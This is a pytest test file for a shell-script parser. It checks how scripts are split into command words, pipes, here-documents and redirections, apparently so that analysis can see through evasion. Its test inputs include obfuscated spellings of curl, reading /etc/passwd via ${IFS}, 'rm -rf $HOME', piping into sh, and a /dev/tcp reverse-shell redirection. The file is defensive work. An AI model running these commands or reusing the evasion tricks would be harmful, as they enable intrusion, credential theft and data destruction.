"""Scripts are read into commands as a shell would take them apart."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from telamon.kits.code.shell import HOLE, read_shell
from telamon.kits.formats.malformed import MalformedError


@pytest.mark.parametrize(
    ("script", "words"),
    [
        ("echo a b", [("echo", "a", "b")]),
        ("echo 'a b' \"c d\" e\\ f", [("echo", "a b", "c d", "e f")]),
        ("c'ur'l x", [("curl", "x")]),
        ("$'\\x63url' x", [("curl", "x")]),
        ("a=cu; $a''rl x", [(), ("curl", "x")]),
        ("cat${IFS}/etc/passwd", [("cat", "/etc/passwd")]),
        ("echo $unknown ${unknown}", [("echo", HOLE, HOLE)]),
        ("echo ${unknown:-a}", [("echo", "a")]),
        ("rm -rf $HOME", [("rm", "-rf", "~")]),
        ("echo a # b", [("echo", "a")]),
        ("echo a#b", [("echo", "a#b")]),
        ("echo a \\\n b", [("echo", "a", "b")]),
        ("a && b || c; d & e", [("a",), ("b",), ("c",), ("d",), ("e",)]),
        ("if a; then b; else c; fi", [("a",), ("b",), ("c",)]),
        ("while a; do b; done", [("a",), ("b",)]),
        ("echo `a b`", [("a", "b"), ("echo", HOLE)]),
        ("echo $(a b)", [("a", "b"), ("echo", HOLE)]),
        ("echo $(echo b)", [("echo", "b"), ("echo", "b")]),
        ("bash <(a)", [("a",), ("bash", HOLE)]),
        ("echo $((1 + 2))", [("echo", HOLE)]),
        ("f() { a; }", [("f",), ("a",)]),
        ("echo 'unclosed", [("echo", "unclosed")]),
    ],
)
def test_words_are_those_of_the_shell(script: str, words: list[tuple[str, ...]]) -> None:
    assert [command.words for command in read_shell(script)] == words


@pytest.mark.parametrize(
    ("script", "inputs"),
    [
        ("a | b", {"b": ["a"]}),
        ("a | b | c", {"b": ["a"], "c": ["b"]}),
        ("a |\nb", {"b": ["a"]}),
        ("(a; b) | c", {"c": ["a", "b"]}),
        ("{ a; b; } | c", {"c": ["a", "b"]}),
        ("if a; then b; fi | c", {"c": ["a", "b"]}),
        ("a | while read x; do b; done", {"read": ["a"], "b": ["a"]}),
        ("a; b", {}),
        ("a | b; c", {"b": ["a"]}),
    ],
)
def test_pipes_connect_commands(script: str, inputs: dict[str, list[str]]) -> None:
    commands = read_shell(script)
    assert {one.name: [source.name for source in one.inputs] for one in commands if one.inputs} == inputs


def test_here_documents_belong_to_their_command() -> None:
    script = "a=1\ncat <<EOF | sh -\nx $a\nEOF\npython3 - <<'EOF'\nprint('$a')\nEOF\nend\n"
    found = {command.name: (command.document, command.line) for command in read_shell(script) if command.words}
    assert found == {"cat": ("x 1", 2), "sh": ("", 2), "python3": ("print('$a')", 5), "end": ("", 8)}


def test_redirections_are_told_apart() -> None:
    [command] = read_shell("bash -i >& /dev/tcp/a/1 0>&1 2>>log <in")
    assert [(one.operator, one.target) for one in command.redirections] == [
        (">&", "/dev/tcp/a/1"),
        (">&", "1"),
        (">>", "log"),
        ("<", "in"),
    ]
    assert command.words == ("bash", "-i")


@pytest.mark.parametrize(
    "script",
    ["$(" * 100 + "a", "`" * 3, "a" * 2_000_000, "a='x'\n" + "a=$a$a\n" * 200 + "echo $a", "((((" * 2000, "${" * 2000],
)
def test_hostile_scripts_end(script: str) -> None:
    try:
        commands = read_shell(script)
    except MalformedError:
        return
    assert sum(len(word) for command in commands for word in command.words) < 1_000_000


@given(st.text(alphabet="ab $(){}[]'\"\\`;&|<>#\n=-!*", max_size=60))
def test_any_text_is_read_or_malformed(script: str) -> None:
    try:
        commands = read_shell(script)
    except MalformedError:
        return
    assert all(1 <= command.line <= script.count("\n") + 1 for command in commands)
